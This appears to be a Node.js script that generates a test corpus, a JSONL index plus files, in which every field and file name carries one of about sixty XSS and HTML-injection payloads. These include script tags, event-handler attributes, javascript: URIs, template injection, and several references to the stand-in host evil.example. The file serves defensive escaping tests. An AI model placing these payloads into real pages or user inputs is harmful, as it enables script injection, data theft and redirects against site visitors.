"use strict";
// Texts that were written to break out of a page, and what is made of them: `node hostile.js DIRECTORY` writes
// DIRECTORY/documents.jsonl and DIRECTORY/files/ for an index in which ids, titles, bodies, issuers, numbers, places and names of files
// are hostile.
const fs = require("node:fs");
const path = require("node:path");

const TEXTS = [
    "<script>alert(1)</script>", "\"><script>alert(1)</script>", 
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", 
    "</script><script>alert(1)</script>", "<scr<script>ipt>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>", "\"><img src=x onerror=alert(1)>", "<img src=//evil.example/pixel>",
    "<img/src='x'/onerror=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=//evil.example/>", "<object data=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<style>*{display:none}</style>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>", "<input autofocus onfocus=alert(1)>", "\" autofocus onfocus=\"alert(1)",
    "' autofocus onfocus='alert(1)", "` onmouseover=alert(1) `", "\" style=\"background:url(//evil.example/x)",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href=//evil.example/ target=_blank>x</a>",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "https://evil.example/\"onclick=alert(1)//",
    "//evil.example/", "<em><script>alert(1)</script></em>", "</em><img src=x onerror=alert(1)><em>",
    "<mark onmouseover=alert(1)>通知</mark>", "&lt;script&gt;alert(1)&lt;/script&gt;", 
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<!--<script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><?xml-stylesheet href=\"//evil.example/\"?>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
    "'-alert(1)-'", "\";alert(1);//", "＜script＞alert(1)＜/script＞", "\u202e<script>alert(1)</script>", "\u0001<script>alert(1)</script>",
    "通知\u2028alert(1)\u2029", "<div id=content><main id=q>", "<p style=position:fixed;inset:0>", "\"'`<>&;",
];

// What a document's id and a file's name may be: the library takes neither tabs nor breaks.
const usable = (text) => text.replace(/[\u0000-\u001f\u007f\u2028\u2029]/g, "");

function write(directory) {
    fs.mkdirSync(path.join(directory, "files"), { recursive: true });
    const lines = TEXTS.map((text, i) => JSON.stringify({
        id: `${i}/${usable(text)}`, title: `第${i}号 ${text}`, body: `敌意文本\n第一条 ${text}\n第二条 通知：${text}\n${text}`,
        issuer: [text, "敌意机关"], docno: i % 2 ? text : undefined, category: text, region: text, site: text, lang: text, url: text,
        date: `${2000 + i % 20}-01-02`,
    }));
    fs.writeFileSync(path.join(directory, "documents.jsonl"), `${lines.join("\n")}\n`);
    TEXTS.forEach((text, i) => {
        const name = `${i}${usable(text).replaceAll("/", "⁄")}.txt`;
        fs.writeFileSync(path.join(directory, "files", name), `敌意文件${i}\n\n${text}\n通知 ${text}\n`);
    });
}

if (require.main === module)
    write(process.argv[2]);
module.exports = { TEXTS, usable };
